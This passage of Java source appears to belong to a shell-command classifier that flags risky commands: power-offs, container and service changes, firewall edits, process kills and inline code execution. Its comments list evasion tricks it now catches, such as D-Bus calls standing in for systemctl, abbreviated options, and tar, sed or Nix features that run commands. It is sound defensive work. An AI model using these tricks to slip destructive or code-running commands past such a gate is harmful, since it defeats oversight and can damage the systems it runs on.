  /** pdm's {@code -g}/{@code --global} as argparse reads it: a prefix of {@code --global} ({@code --gl}), or {@code g} in a bundle before a letter taking a value. */
  private static boolean pdmGlobal(String v) {
    if (v.startsWith("--")) {
      String o = v.contains("=") ? v.substring(0, v.indexOf('=')) : v;
      return o.length() >= 4 && "--global".startsWith(o);
    }
    if (v.startsWith("-") && v.length() > 1) {
      for (int i = 1; i < v.length(); i++) {
        char ch = v.charAt(i);
        if (ch == 'g') {
          return true;
        }
        if ("GpkeLScI".indexOf(ch) >= 0 || !Character.isLetter(ch)) {
          return false;
        }
      }
    }
    return false;
  }

  /** poetry config virtualenvs.create false (or a value only known when it runs): installs go to poetry's own Python. */
  private static boolean poetryNoVirtualenv(List<Word> a) {
    for (int i = 0; i + 1 < a.size(); i++) {
      if (a.get(i).value().equals("virtualenvs.create")) {
        Word w = a.get(i + 1);
        return !w.literal() || Regexes.matches(w.value().toLowerCase(Locale.ROOT), "false|0|no|off");
      }
    }
    return false;
  }

  /**
   * Variables that move a project tool's installs beyond the project (attack 17cv): {@code
   * PIPENV_SYSTEM} (pipenv's {@code --system}), {@code POETRY_VIRTUALENVS_CREATE=false} (poetry's
   * own Python, the system's), npm's {@code npm_config_global}/{@code location=global} (npm {@code
   * -g}), uv's {@code UV_PROJECT_ENVIRONMENT} set to the system's prefix.
   */
  static boolean packageScopeVariable(ShellReading.Assignment a) {
    String v = a.variable();
    Word w = a.value();
    if (w == null || w.value().isEmpty()) {
      return false;
    }
    String x = w.value().toLowerCase(Locale.ROOT).strip();
    return switch (v) {
      case "PIPENV_SYSTEM" -> !w.literal() || !Regexes.matches(x, "0|false|no|off");
      case "POETRY_VIRTUALENVS_CREATE" -> !w.literal() || Regexes.matches(x, "0|false|no|off");
      case "npm_config_global", "NPM_CONFIG_GLOBAL" -> !w.literal() || !Regexes.matches(x, "0|false|no|off");
      case "npm_config_location", "NPM_CONFIG_LOCATION" -> !w.literal() || x.equals("global");
      case "UV_PROJECT_ENVIRONMENT" -> !w.literal() || Regexes.matches(x, "/+(usr(/+local)?/*)?");
      default -> false;
    };
  }

  /**
   * Composer's changes beyond the project: {@code global} (the user's global project) and {@code
   * self-update}. Composer (Symfony Console) takes a command by any unambiguous abbreviation
   * ({@code composer glob require x}); an ambiguous one fails, so every prefix of two letters or
   * more counts (attack 17cp). install, require, update and remove change the project's vendor/,
   * its own business as npm's node_modules are.
   */
  private static boolean composerChange(ShellCommand c) {
    Set<String> change = Set.of("global", "self-update", "selfupdate");
    List<String> a = c.argValues();
    // g alone is global's abbreviation too: no other command of composer starts with g (attack 17cv)
    return verbCandidates(a).stream().map(a::get).anyMatch(v -> (v.length() >= 2 || v.equals("g"))
        && change.stream().anyMatch(x -> x.startsWith(v)));
  }

  /** docker's lifecycle verbs: each stops, starts or replaces a running container (a service, in production). */
  private static final Set<String> CONTAINER_CHANGE = Set.of("stop", "restart", "kill", "rm", "remove", "start", "pause",
      "unpause", "update", "rename");
  // compose watch starts the services first (docker compose watch: "up" unless --no-up)
  private static final Set<String> COMPOSE_CHANGE = Set.of("down", "stop", "restart", "kill", "rm", "up", "start", "pause",
      "unpause", "scale", "create", "watch");
  private static final Set<String> CONTAINER_READS = Set.of("exec", "run", "logs", "inspect", "cp", "build", "ps", "images",
      "pull", "push", "tag", "top", "stats", "events", "info", "version", "network", "volume", "image", "system", "login",
      "logout", "search", "history", "diff", "export", "save", "load", "commit", "port", "wait", "attach", "context",
      "buildx", "manifest", "plugin", "secret", "config", "node", "swarm", "trust", "init", "scout", "sbom", "help");

  /**
   * {@code docker stop web}, {@code docker compose down}, {@code docker container rm -f x}, {@code
   * podman kill x}, {@code docker service update …}: service-change. docker's global options are
   * read by their table; another program's (podman --url U stop x) may put a value first, so a
   * first word that is no known subcommand lets the next decide.
   */
  private static boolean containerLifecycle(ShellCommand c) {
    if (c.name().equals("docker")) {
      List<String> v = ListedOperands.of(c).stream().limit(3).map(Word::value).toList();
      if (v.isEmpty()) {
        // the options were not read (a word only known when it runs): any lifecycle verb decides
        return c.argValues().stream().anyMatch(w -> CONTAINER_CHANGE.contains(w) || COMPOSE_CHANGE.contains(w));
      }
      return lifecycleVerb(c, v.get(0), v.size() > 1 ? v.get(1) : "");
    }
    // podman, nerdctl, docker-compose: their global options are not in a table here, and several
    // take a value (podman --url U --identity I stop, nerdctl -n NS --address A stop,
    // docker-compose -f F -p P down): every word that may be the verb decides (attack 17cp)
    List<String> a = c.argValues();
    for (int i : verbCandidates(a)) {
      List<String> after = a.subList(i + 1, a.size()).stream().filter(w -> !w.startsWith("-")).toList();
      if (lifecycleVerb(c, a.get(i), after.isEmpty() ? "" : after.get(0))) {
        return true;
      }
    }
    return false;
  }

  private static boolean lifecycleVerb(ShellCommand c, String first, String second) {
    if (c.name().endsWith("-compose")) {
      return COMPOSE_CHANGE.contains(first) || !CONTAINER_READS.contains(first) && COMPOSE_CHANGE.contains(second);
    }
    return switch (first) {
      // compose's own options come after it, some with a value (docker compose -f x.yml -p p restart):
      // the first word after compose's options that is a lifecycle verb decides, wherever it stands
      case "compose" -> COMPOSE_CHANGE.contains(second) || composeVerbAfterOptions(c.argValues());
      // container checkpoint stops it (podman, docker's experimental checkpoint), restore starts it
      case "container" -> CONTAINER_CHANGE.contains(second) || Set.of("prune", "checkpoint", "restore").contains(second);
      case "service", "stack" -> Set.of("rm", "remove", "update", "scale", "rollback", "create", "deploy", "up", "down")
          .contains(second);
      // podman kube play/down (play kube [--down]) start and stop pods; system reset removes every
      // container; auto-update pulls and restarts them; network (dis)connect cuts a running one off
      case "kube" -> Set.of("play", "down", "apply").contains(second);
      case "play" -> second.equals("kube");
      // system prune removes every stopped container, as container prune does (attack 17cq)
      case "system" -> second.equals("reset") || second.equals("prune");
      case "network" -> Set.of("connect", "disconnect").contains(second);
      case "auto-update", "checkpoint", "restore" -> true;
      default -> CONTAINER_CHANGE.contains(first) || !CONTAINER_READS.contains(first) && CONTAINER_CHANGE.contains(second);
    };
  }

  private static boolean composeVerbAfterOptions(List<String> a) {
    int at = a.indexOf("compose");
    for (int i = at + 1; i < a.size(); i++) {
      if (a.get(i).startsWith("-")) {
        continue;
      }
      if (COMPOSE_CHANGE.contains(a.get(i))) {
        return true;
      }
      boolean mayBeValue = i > at + 1 && a.get(i - 1).startsWith("-") && !a.get(i - 1).contains("=");
      if (!mayBeValue) {
        return false; // the subcommand, not a lifecycle verb
      }
    }
    return false;
  }

  /** systemd's D-Bus methods that start, stop, reload or change units and the manager (not Get…, List…, Introspect). */
  private static final String UNIT_METHODS = "(Start|Stop|Restart|Reload|TryRestart|ReloadOrRestart|ReloadOrTryRestart|Enqueue"
      + "|Enable|Disable|Reenable|Mask|Unmask|Link|Preset|Revert|Clean|Freeze|Thaw|Bind|Mount|Reset|Set|Attach|Abandon"
      + "|Unset|Reexecute|Exit|SwitchRoot|AddDependency|Cancel|ClearJobs)[A-Za-z]*";

  static final Set<String> DBUS_CALLERS = Set.of("busctl", "dbus-send", "gdbus", "qdbus", "qdbus6", "qdbus-qt5", "qdbus-qt6",
      "qdbus-qt4");

  /** logind's and systemd's D-Bus methods that power the machine off, reboot or suspend it. */
  private static final String POWER_METHODS = "(PowerOff|Reboot|Halt|Suspend|Hibernate|HybridSleep|SuspendThenHibernate|KExec"
      + "|Sleep|ScheduleShutdown|SoftReboot)[A-Za-z]*";

  /**
   * The method names a D-Bus caller ({@code busctl call}, {@code dbus-send}, {@code gdbus call},
   * {@code qdbus}) is given where one of its words names {@code service} (a word's last dotted part,
   * or the word itself); empty for another program or service.
   */
  static List<String> dbusMethods(ShellCommand c, String service) {
    // the service's object path counts too: on systemd's private socket (busctl
    // --address=unix:path=/run/systemd/private) no bus name is needed (attack 17cp)
    String path = "/" + service.replace('.', '/');
    // busctl's and gdbus's other verbs read (get-property StartupTimestamp, introspect … Unit): only call calls
    // busctl set-property is org.freedesktop.DBus.Properties.Set, read as a call of Set (attack 17cq:
    // busctl set-property … systemd1.Manager LogTarget s null is systemctl log-target null)
    boolean setProperty = c.name().equals("busctl") && c.argValues().contains("set-property");
    boolean reads = Set.of("busctl", "gdbus").contains(c.name()) && !c.argValues().contains("call") && !setProperty;
    if (reads || !DBUS_CALLERS.contains(c.name())
        || c.argValues().stream().noneMatch(v -> v.contains(service) || v.contains(path)
            || service.endsWith("systemd1") && v.contains("/run/systemd/private"))) {
      return List.of();
    }
    List<String> out = new ArrayList<>(c.argValues().stream().map(v -> v.substring(v.lastIndexOf('.') + 1)).toList());
    if (setProperty) {
      out.add("Set");
    }
    return out;
  }

  /** A system service's D-Bus methods (a pattern over a method's name) that make a call a class's change. */
  private record DbusMethods(String service, String methods) {}

  /**
   * D-Bus calls that do what a class's command-line tool does, so that {@code busctl call},
   * {@code dbus-send}, {@code gdbus call} or {@code qdbus} are judged as that tool (attacks 17cm to
   * 17cq): logind's and systemd's power methods as {@code systemctl poweroff}; systemd's unit
   * methods as {@code systemctl restart}, machined's Terminate/Kill as {@code machinectl terminate};
   * logind's Kill/Terminate of a session, user or seat (also the objects' own) and systemd's KillUnit
   * as {@code loginctl kill-user} and {@code systemctl kill}; NetworkManager's, firewalld's,
   * resolved's per-link and networkd's changes as nmcli, firewall-cmd, {@code resolvectl dns LINK
   * SERVER} and networkctl; accountsservice's users as useradd; UDisks2's Format as mkfs; machined's
   * shell on a machine as {@code machinectl shell}.
   */
  private static final Map<ShellClass, List<DbusMethods>> DBUS_CHANGES = Map.of(
      POWER, List.of(new DbusMethods("org.freedesktop.login1", POWER_METHODS),
          new DbusMethods("org.freedesktop.systemd1", POWER_METHODS)),
      SERVICE_CHANGE, List.of(new DbusMethods("org.freedesktop.machine1", "(Terminate|Kill)(Machine)?"),
          new DbusMethods("org.freedesktop.systemd1", UNIT_METHODS),
          // UDisks2's storage taken away or given, as umount, cryptsetup close, swapoff, losetup -d, mdadm --stop (attack 17ct)
          new DbusMethods("org.freedesktop.UDisks2", "Unmount|Mount|Lock|PowerOff|Eject|Stop|Start|Delete|SetAutoclear"
              + "|RemoveDevice|SetBitmapLocation|RequestSyncAction|Resize|Repair|SetLabel|SetUUID|Take[A-Za-z]*")),
      PROCESS_KILL, List.of(new DbusMethods("org.freedesktop.login1", "(Kill|Terminate)(Session|User|Seat)?"),
          new DbusMethods("org.freedesktop.systemd1", "(Kill|QueueSignal)(Unit)?(Subgroup)?")),
      FIREWALL_CHANGE, List.of(
          new DbusMethods("org.freedesktop.NetworkManager", "Enable|Sleep|(Add|AddAnd)?Activate[A-Za-z0-9]*"
              + "|Deactivate[A-Za-z]*|Disconnect|Delete|Update[0-9]*|Reapply|Save|AddConnection[A-Za-z0-9]*"
              + "|(Reload|Load)Connections|Reload|SetLogging|Checkpoint[A-Za-z]*|Set"),
          new DbusMethods("org.fedoraproject.FirewallD1", "(add|remove|set|panic|reload|completeReload"
              + "|runtimeToPermanent|reset|change|new|delete|update|enable|disable|rename|load|Set)[A-Za-z]*"),
          new DbusMethods("org.freedesktop.resolve1", "SetLink[A-Za-z]*|RevertLink"),
          new DbusMethods("org.freedesktop.network1", "(Set|Revert|Reconfigure|Renew|ForceRenew|Reload|Up|Down)[A-Za-z]*"),
          // the clock, the machine's names and its locale, as timedatectl/hostnamectl/localectl set-* (attack 17ct)
          new DbusMethods("org.freedesktop.timedate1", "Set[A-Za-z]*"),
          new DbusMethods("org.freedesktop.hostname1", "Set[A-Za-z]*"),
          new DbusMethods("org.freedesktop.locale1", "Set[A-Za-z]*")),
      USER_CHANGE, List.of(new DbusMethods("org.freedesktop.Accounts", "(Create|Delete|Cache|Uncache)User|Set[A-Za-z]*")),
      FILESYSTEM_FORMAT, List.of(new DbusMethods("org.freedesktop.UDisks2", "Format|CreatePartitionAndFormat")),
      NESTED_SHELL, List.of(new DbusMethods("org.freedesktop.machine1", "Open(Machine)?(Shell|Login)")));

  /** Whether {@code c} is a D-Bus call that puts it in {@code cls} ({@link #DBUS_CHANGES}). */
  private static boolean dbusCall(ShellCommand c, ShellClass cls) {
    if (!DBUS_CALLERS.contains(c.name())) {
      return false;
    }
    for (DbusMethods d : DBUS_CHANGES.getOrDefault(cls, List.of())) {
      if (dbusMethods(c, d.service()).stream().anyMatch(m -> Regexes.matches(m, d.methods()))) {
        return true;
      }
    }
    return false;
  }

  private static boolean processKill(ShellCommand c) {
    List<String> args = c.argValues();
    switch (c.name()) {
      // start-stop-daemon -K/--stop signals every process that matches (attack 17cm)
      case "start-stop-daemon" -> {
        if (args.stream().anyMatch(v -> Regexes.matches(v, "-[^-]*K.*") || Wrappers.longOption(v, "stop", "s", "st"))) {
          return true;
        }
      }
      // loginctl's kill-user/kill-session signal a user's or session's processes; terminate-* end them (attack 17cm)
      case "loginctl" -> {
        return operands(c).stream().anyMatch(w -> Regexes.matches(w.value(), "kill-(user|session)|terminate-(user|session|seat)"));
      }
      // ss -K/--kill closes the sockets it lists (attack 17cm)
      case "ss" -> {
        return args.stream().anyMatch(v -> Regexes.matches(v, "-[^-]*K.*") || Wrappers.longOption(v, "kill", "k"));
      }
      default -> { }
    }
    if (c.name().equals("fuser")) {
      // fuser -k (also in a bundle, -km, -ki) kills the processes using the files or ports it names
      return c.argValues().stream().anyMatch(v -> Regexes.matches(v, "-[^-]*k.*") || v.equals("--kill"));
    }
    if (!KILLERS.contains(c.name())) {
      return false;
    }
    List<String> a = c.argValues();
    if (c.name().equals("kill") && killOnlyListsOrTests(a)) {
      return false;
    }
    // Any target counts, a negative one too: kill -9 -1 signals every process it may.
    return !(a.contains("--help") || a.contains("-V") || a.contains("--version")) && !a.isEmpty();
  }

  /**
   * kill's listing ({@code -l}, {@code -L}, {@code --list}, {@code --table}) and signal 0 (a test
   * that sends nothing) only where kill reads them as options: at the start, before any process.
   * After a process they are operands, and the signal still goes: bash prints "-l: arguments must
   * be process or job IDs" for {@code kill -9 PID -l} and kills PID all the same, and {@code kill
   * -9 PID -0} signals PID and then process group 0, its own (attack 17cm, proven).
   */
  private static boolean killOnlyListsOrTests(List<String> a) {
    if (a.isEmpty()) {
      return false;
    }
    if (Set.of("-l", "-L", "--list", "--table").contains(a.get(0))) {
      return true;
    }
    String signal = a.get(0).equals("-s") || a.get(0).equals("-n") ? (a.size() > 1 ? a.get(1) : "")
        : a.get(0).startsWith("-") ? a.get(0).substring(1) : "";
    return signal.equals("0");
  }

  private static boolean firewallChange(ShellCommand c) {
    String n = c.name();
    List<String> a = c.argValues();
    if (Regexes.matches(n, "(ip6?|eb|arp)tables(-legacy|-nft)?")) {
      // getopt_long: a command letter in a bundle after flags (-wF, -vF, -nvZ), a long option by any
      // unambiguous prefix (--app, --ins, --fl, --pol: attack 17cm)
      return a.stream().anyMatch(v -> Regexes.matches(v, "-[AIDRFXPNEZ][A-Za-z]*|--(append|insert|delete|replace|flush|delete-chain"
          + "|policy|new-chain|rename-chain|zero)(=.*)?") || iptablesCommandInBundle(v)
          || java.util.stream.Stream.of("append", "insert", "replace", "flush", "delete-chain", "policy", "new-chain", "rename-chain", "zero")
              .anyMatch(o -> Wrappers.longOption(v, o, "in", "i", "n", "f", "p", "r")) || Wrappers.longOption(v, "delete", "d", "de"));
    }
    if (Regexes.matches(n, "(ip6?|eb|arp)tables(-legacy|-nft)?-restore|iptables-apply|ipset|conntrack")) {
      return !(n.equals("ipset") && firstOperandIn(c, Set.of("list", "save", "test", "-L", "help", "version")))
          && !(n.equals("conntrack") && (flag(c, 'L') || a.contains("--dump") || flag(c, 'E') || a.contains("--event")));
    }
    if (n.equals("nft")) {
      // nft joins its words into one command: nft 'flush ruleset' is nft flush ruleset; -i reads
      // its commands at a prompt, unseen (attack 17cm)
      List<Word> ops = operands(c);
      String first = ops.isEmpty() ? "" : ops.get(0).value().strip().split("\\s+")[0];
      return flag(c, 'f') || flag(c, 'i') || a.stream().anyMatch(v -> Wrappers.longOption(v, "file")
          || Wrappers.longOption(v, "interactive")) || Set.of("add", "insert", "delete", "flush",
          "create", "replace", "reset", "destroy", "rename", "-f").contains(first.toLowerCase(Locale.ROOT))
          || ops.stream().anyMatch(w -> Regexes.matches(w.value(), "(?s).*[;\\n].*"));
    }
    if (n.equals("ufw")) {
      return firstOperandIn(c, Set.of("allow", "deny", "reject", "limit", "delete", "insert", "enable", "disable",
          "reset", "default", "route", "prepend", "reload", "logging"));
    }
    if (n.equals("firewall-cmd") || n.equals("firewall-offline-cmd")) {
      return a.stream().anyMatch(v -> Regexes.matches(v, "--(add|remove|set|new|delete|change|reload|complete-reload|panic-on"
          + "|runtime-to-permanent|lockdown-on|direct|permanent|zone=.*--add).*"));
    }
    if (n.equals("ip")) {
      return ipChanges(c);
    }
    if (n.equals("route")) {
      return firstOperandIn(c, Set.of("add", "del", "delete", "flush", "change"));
    }
    if (n.equals("ifconfig")) {
      return operands(c).size() >= 2;
    }
    if (n.equals("ifdown") || n.equals("ifup") || n.equals("ifenslave") || n.equals("brctl") && !firstOperandIn(c, Set.of("show"))) {
      return true;
    }
    if (n.equals("nmcli")) {
      return a.stream().anyMatch(v -> Regexes.matches(v, "up|down|modify|mod|delete|del|add|off|disconnect|reload|load|import"))
          || nmcliChanges(c);
    }
    if (n.equals("sysctl")) {
      // procps takes a long option by any unambiguous prefix, the file glued too: --lo=FILE, --sys, --wr
      // -f is -p's alias (procps-ng sysctl(8); attack 17cv, proven)
      return flag(c, 'w') || flag(c, 'p') || flag(c, 'f') || a.stream().anyMatch(v -> Wrappers.longOption(v, "load")
          || Wrappers.longOption(v, "write") || Wrappers.longOption(v, "system"))
          || operands(c).stream().anyMatch(w -> w.value().contains("="));
    }
    // The link, addresses, DNS and tunnels by other tools: ethtool's setting options (-s, -K, -A, …,
    // --flash, the offline --test that takes the link down), networkctl up/down, resolvectl's
    // per-link settings given a value, WireGuard's set and up/down.
    switch (n) {
      case "ethtool" -> {
        return a.stream().anyMatch(v -> Regexes.matches(v, "-[sACGKLEfNUXWrt]|--(change|pause|coalesce|set-ring|set-channels"
            + "|features|offload|change-eeprom|flash|config-nfc|config-ntuple|negotiate|set-rxfh-indir|rxfh|set-dump"
            + "|set-priv-flags|set-eee|set-fec|set-phy-tunable|set-tunable|reset|set-module|set-mm|set-plca-cfg|test"
            + "|set-pse|set-hwtstamp-cfg|cable-test|cable-test-tdr)"));
      }
      case "networkctl" -> {
        return verbAmongOperands(c, Set.of("up", "down", "reconfigure", "reload", "renew", "forcerenew", "delete", "edit"));
      }
      case "resolvectl", "systemd-resolve" -> {
        List<Word> ops = operands(c);
        String verb = ops.isEmpty() ? "" : ops.get(0).value();
        return a.stream().anyMatch(v -> Regexes.matches(v, "--(set-[a-z-]+|revert)(=.*)?"))
            || verb.equals("revert") && ops.size() > 1
            || Set.of("dns", "domain", "default-route", "llmnr", "mdns", "dnssec", "dnsovertls", "nta").contains(verb) && ops.size() > 2;
      }
      case "wg" -> {
        return verbAmongOperands(c, Set.of("set", "setconf", "addconf", "syncconf"));
      }
      case "wg-quick" -> {
        return verbAmongOperands(c, Set.of("up", "down", "save"));
      }
      default -> { }
    }
    // tc, like ip, takes a verb by any prefix (tc qdisc ad …), and -b/-batch FILE runs its lines
    return n.equals("tc") && a.stream().anyMatch(v -> IP_CHANGE_VERBS.stream().anyMatch(x -> !v.isEmpty() && x.startsWith(v))
        || v.equals("link") || Regexes.matches(v, "-b|-ba|-bat|-batc|-batch|--?force"));
  }

  /**
   * nmcli takes its object and its command by any prefix, the first in its own order winning
   * ({@code nmcli c u x} is connection up, {@code nmcli d dis eth0} device disconnect, {@code nmcli d
   * s} device status: attack 17cm). Its options {@code -f}/{@code -g}/{@code -e}/{@code -c}/{@code
   * -a}/{@code -w}/{@code -m}/{@code -p}/{@code -t} come first; those taking a value take the next word.
   */
  private static boolean nmcliChanges(ShellCommand c) {
    List<String> a = c.argValues();
    int i = 0;
    while (i < a.size() && a.get(i).startsWith("-")) {
      if (Regexes.matches(a.get(i), "--?(f|fi|fie|fields|g|get-values|e|escape|c|colors|w|wait|m|mode)")) {
        i++;
      }
      i++;
    }
    if (i + 1 >= a.size()) {
      return false;
    }
    String object = a.get(i);
    String verb = a.get(i + 1);
    List<String> order;
    Set<String> change;
    if ("connection".startsWith(object)) {
      order = List.of("show", "up", "down", "add", "modify", "clone", "edit", "delete", "monitor", "reload", "load",
          "import", "export", "migrate");
      change = Set.of("up", "down", "add", "modify", "clone", "edit", "delete", "reload", "load", "import", "migrate");
    } else if ("device".startsWith(object)) {
      order = List.of("status", "show", "set", "up", "connect", "reapply", "modify", "disconnect", "delete", "monitor",
          "wifi", "lldp");
      change = Set.of("set", "up", "connect", "reapply", "modify", "disconnect", "delete");
    } else {
      return false;
    }
    return order.stream().filter(x -> x.startsWith(verb)).findFirst().filter(change::contains).isPresent();
  }

  /** iptables' short bundle ({@code -wF}) holding a command letter before any letter that takes a value. */
  private static boolean iptablesCommandInBundle(String v) {
    if (v.length() < 3 || v.charAt(0) != '-' || v.charAt(1) == '-') {
      return false;
    }
    for (int i = 1; i < v.length(); i++) {
      char ch = v.charAt(i);
      if ("AIDRFXPNEZ".indexOf(ch) >= 0) {
        return true;
      }
      if ("tjiosdpmgcWL".indexOf(ch) >= 0) {
        return false;
      }
    }
    return false;
  }

  /**
   * The verbs of ip's objects (and tc's) that change state. iproute2 takes a word by any prefix
   * ({@code matches()}: {@code ip route ad}, {@code ip -4 a fl}), the first verb in its own order
   * winning; a prefix of one of these is read as it, so {@code s} is {@code set} (not {@code show}).
   */
  private static final List<String> IP_CHANGE_VERBS = List.of("add", "append", "attach", "change", "chg", "replace",
      "prepend", "property", "delete", "deleteall", "flush", "set", "exec", "restore");

  /** ip's read-only verbs: a word here is not read as a change verb even where it is a prefix of one. */
  private static final Pattern IP_READ_VERB = Pattern.compile(
      "sh|sho|show|l|li|lis|list|lst|g|ge|get|sa|sav|save|m|mo|mon|moni|monit|monito|monitor|h|he|hel|help|i|id|identify|pids");

  /**
   * {@code ip [OPTIONS] OBJECT VERB …}: its options are read as ip reads them (one dash or two,
   * any prefix): {@code -f}/{@code -family}, {@code -l}/{@code -loops}, {@code -n}/{@code -netns},
   * {@code -rc}/{@code -rcvbuf} take the next word; {@code -b}/{@code -batch} (not {@code -br},
   * brief) runs the lines of a file or of its input, and {@code -force} goes on after an error:
   * any change. Any object counts (neighbour, nexthop, maddress, addrlabel, mptcp endpoint, …), by
   * its verb or, after a sub-object word ({@code mptcp endpoint add}), the next word's.
   */
  private static boolean ipChanges(ShellCommand c) {
    List<Word> a = c.args();
    int i = 0;
    for (; i < a.size(); i++) {
      String v = a.get(i).value();
      if (v.equals("--")) {
        i++;
        break;
      }
      if (!v.startsWith("-") || v.equals("-")) {
        break;
      }
      String o = v.startsWith("--") ? v.substring(1) : v;
      if (Regexes.matches(o, "-b|-ba|-bat|-batc|-batch|-force|-fo|-for|-forc")) {
        return true;
      }
      if (Regexes.matches(o, "-(f|fa|fam|fami|famil|family|l|lo|loo|loop|loops|n|ne|net|netn|netns|rc|rcv|rcvb|rcvbu|rcvbuf)")) {
        i++; // the option's value
      }
    }
    List<String> ops = new ArrayList<>();
    for (; i < a.size(); i++) {
      ops.add(a.get(i).value());
    }
    if (ops.size() < 2 || Regexes.matches(ops.get(0), "m|mo|mon|moni|monit|monito|monitor|h|he|hel|help")) {
      return false;
    }
    if (ipChangeVerb(ops.get(1))) {
      return true;
    }
    return !IP_READ_VERB.matcher(ops.get(1)).matches() && ops.size() > 2 && ipChangeVerb(ops.get(2));
  }

  private static boolean ipChangeVerb(String v) {
    return !v.isEmpty() && !IP_READ_VERB.matcher(v).matches() && (v.equals("del") || v.equals("d") || v.equals("repl")
        || IP_CHANGE_VERBS.stream().anyMatch(x -> x.startsWith(v)));
  }

  private static boolean userChange(ShellCommand c) {
    String n = c.name();
    if (USER_TOOLS.contains(n)) {
      return !(n.equals("passwd") && (flag(c, 'S') || c.argValues().contains("--status")));
    }
    if (n.equals("chage")) {
      return !(flag(c, 'l') || c.argValues().contains("--list"));
    }
    if (WRITERS.contains(n)) {
      if (Set.of("sed", "perl").contains(n) && !(flag(c, 'i') || c.argValues().stream().anyMatch(v -> v.startsWith("--in-place")))) {
        return false;
      }
      // chmod 600 ~/.ssh/authorized_keys, chmod 700 ~/.ssh: no one gains a right (but chmod 600
      // /etc/passwd takes the system's accounts from every other user: still a user change)
      if (n.equals("chmod") && chmodOnlyRestricts(c)
          && writtenPaths(c).stream().filter(ShellClass::authFile).allMatch(ShellClass::underSshDirectory)) {
        return false;
      }
      return writtenPaths(c).stream().anyMatch(ShellClass::authFile);
    }
    return false;
  }

  private static boolean schedulerChange(ShellCommand c) {
    String n = c.name();
    if (n.equals("crontab")) {
      return !(flag(c, 'l') || c.argValues().contains("--list") || c.argValues().contains("-V"));
    }
    if (n.equals("at") || n.equals("batch") || n.equals("atrm")) {
      return !(flag(c, 'l') || c.argValues().contains("-V") || c.argValues().contains("--help"));
    }
    if (n.equals("systemd-run")) {
      return c.argValues().stream().anyMatch(v -> v.startsWith("--on-"));
    }
    if (WRITERS.contains(n)) {
      if (Set.of("sed", "perl").contains(n) && !flag(c, 'i')) {
        return false;
      }
      return writtenPaths(c).stream().anyMatch(p -> PathPatterns.couldMatch(SCHEDULE_FILE, p));
    }
    return false;
  }

  private static boolean interpreterInline(ShellCommand c) {
    String n = c.name();
    Consoles.Kind console = Consoles.read(c);
    if (console == Consoles.Kind.INLINE || console == Consoles.Kind.PROMPT && c.stdin() != ShellCommand.Stdin.TERMINAL
        || console == Consoles.Kind.DB_PROMPT && (c.inputFromCommand() || c.stdin() == ShellCommand.Stdin.TEXT)) {
      // a framework's or client's code in its words or fed to its prompt (rails runner CODE, echo … | flask shell) (17cs)
      return true;
    }
    if (Set.of("nix", "nix-instantiate", "nix-build", "nix-shell", "nix-env", "nix-store").contains(n)
        && c.argValues().stream().anyMatch(v -> v.contains("allow-unsafe-native-code-during-evaluation"))) {
      // the setting gives Nix's evaluator builtins.exec: nix eval --expr 'builtins.exec [...]' runs a
      // command as it evaluates (nix.conf(5); attack 17cq)
      return true;
    }
    if (Interpreters.isLanguage(n)) {
      Interpreters.Source s = Interpreters.source(c);
      return s == Interpreters.Source.INLINE || CommandPrompts.pagerSecureDropped(c) // python3 -m dotenv run (17cp)
          || s == Interpreters.Source.STDIN && c.stdin() != ShellCommand.Stdin.TERMINAL
          || n.startsWith("node") && CommandPrompts.nodeDebugger(c)
          && (c.inputFromCommand() || c.stdin() == ShellCommand.Stdin.TEXT); // exec EXPR fed to its prompt
    }
    if (Wrappers.isShell(n) || n.equals("source") || n.equals(".")) {
      // A shell reading code from a pipe: what it runs is whatever the pipe carries; from another
      // descriptor (bash /dev/fd/3 3<<<…): code the text feeds it, not a script on disk.
      return Interpreters.readsCodeFromStdin(c) && c.inputFromCommand()
          || Wrappers.isShell(n) && Interpreters.source(c) == Interpreters.Source.INLINE
          && c.args().stream().anyMatch(w -> Interpreters.descriptorPath(w.value()));
    }
    List<String> a = c.argValues();
    if (commandsFromInput(c) || makeGivenCode(c) || roffUnsafe(c) || edShellFile(c) || compilerDriverRuns(c)
        || CommandPrompts.editorGivenCode(c)
        || n.equals("gpg-connect-agent") && CommandPrompts.connectAgentCode(c) || CommandPrompts.gnupgProgramOption(c)
        || CommandPrompts.pagerSecureDropped(c) || n.equals("pgbench") && PsqlClient.pgbenchRunsInline(c)
        || PsqlClient.SERVER_NAMES.contains(n) && PsqlClient.serverRunsSetting(c)) {
      return true;
    }
    // An editor writes what the person types into a program that runs commands anyway (vim's :!).
    // (a chmod that only takes rights away, chmod 600 ~/.ssh/authorized_keys, puts no code in a startup file)
    if (writesGitConfig(c) || !INTERACTIVE_EDITORS.contains(n) && !(n.equals("chmod") && chmodOnlyRestricts(c))
        && namedWords(c).stream().anyMatch(ShellClass::startupFile) || copiesDotfilesIntoHome(c) || extractsIntoHome(c)) {
      return true;
    }
    if (Regexes.matches(n, "g?awk|mawk|nawk")) {
      // awk -f /dev/stdin <<< 'BEGIN{system(…)}', awk -f /dev/tty: a program the text feeds or the
      // person types next; a program that runs commands; a library loaded into awk.
      ToolScripts.Source src = ToolScripts.awkSource(c.args());
      return src.unknown() || src.loads() || src.files().stream().anyMatch(f -> !Interpreters.regularPath(f))
          || src.inline().stream().anyMatch(p -> !p.literal() || ToolScripts.awkRunsCommands(p.value()));
    }
    // The options below are read in literal words; a word only known when it runs where one of
    // these programs reads an option makes the text unclassified (Wrappers.OPTIONS_THAT_RUN).
    switch (n) {
      case "sed", "gsed" -> {
        // GNU sed's e command and the e flag of s run shell commands; a script read from the
        // terminal (-f -, -f /dev/tty) or only known when it runs may hold them. --sandbox refuses them.
        ToolScripts.Source src = ToolScripts.sedSource(c.args());
        if (src.unknown()) {
          return true;
        }
        if (src.sandboxed()) {
          return false;
        }
        return src.files().stream().anyMatch(f -> !Interpreters.regularPath(f))
            || src.inline().stream().anyMatch(p -> !p.literal() || ToolScripts.sed(p.value()).runsAny());
      }
      case "tar", "gtar", "bsdtar" -> {
        // Long options by any abbreviation getopt_long takes (--to-comm=, --use-comp=); --checkpoint
        // itself is an option of its own, not --checkpoint-action.
        return a.stream().anyMatch(v -> Wrappers.longOption(v, "to-command") || Wrappers.longOption(v, "checkpoint-action",
            "checkpoint") || Wrappers.longOption(v, "use-compress-program") || Wrappers.longOption(v, "info-script")
            || Wrappers.longOption(v, "new-volume-script") || Wrappers.longOption(v, "rsh-command")
            || Wrappers.longOption(v, "rmt-command")) || shortFlagIn(c, 'I') || shortFlagIn(c, 'F') || tarBundle(c);
      }
      case "zip" -> {
        // -TT CMD, also with CMD attached (-TT'CMD') or in a bundle; --unzip-command by any abbreviation.
